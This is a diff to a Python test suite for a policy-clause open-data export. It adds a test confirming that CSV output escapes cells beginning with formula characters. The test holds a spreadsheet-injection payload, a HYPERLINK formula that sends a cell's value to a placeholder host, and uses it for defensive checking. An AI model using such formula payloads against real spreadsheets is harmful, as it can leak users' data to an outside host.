@@ -6,7 +6,10 @@ search words, and the render command's errors.)
 
 from __future__ import annotations
 
+import copy
+import csv
 import datetime as dt
+import io
 import json
 import xml.etree.ElementTree as ET
 from decimal import Decimal
@@ -116,6 +119,23 @@ def test_open_data_records(view):
     assert row["page"] == "policies/shenzhen-ai-pioneer-measures-2024/clause-2/"
     doc = json.loads(opendata.clauses_json(view, "zh"))
     assert doc["count"] == 152 and doc["clauses"][0]["benefit"]["kind"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_open_data_csv_cells_never_start_a_formula(data, start):
+    hostile = copy.deepcopy(data)
+    clause = hostile["policies"][0]["clauses"][0]
+    formula = f'{start}HYPERLINK("http://x.example/?"&A1,"click")'
+    clause["title"] = {"zh": formula, "en": formula}
+    view = build_view(hostile, ON)
+    rows = list(
+        csv.DictReader(io.StringIO(opendata.clauses_csv(view, "en", load_strings()).lstrip("\ufeff")))
+    )
+    key = {"policy": hostile["policies"][0]["id"], "clause": clause["id"]}
+    assert [r["title"] for r in rows if key.items() <= r.items()] == ["'" + formula]
+    assert all(not v.startswith(opendata.FORMULA_START) for r in rows for v in r.values())
+    records = json.loads(opendata.clauses_json(view, "en"))["clauses"]
+    assert [r["title"] for r in records if key.items() <= r.items()] == [formula]
 
 
 def test_feed_without_history_lists_each_policy_dated_by_its_first_day(view):
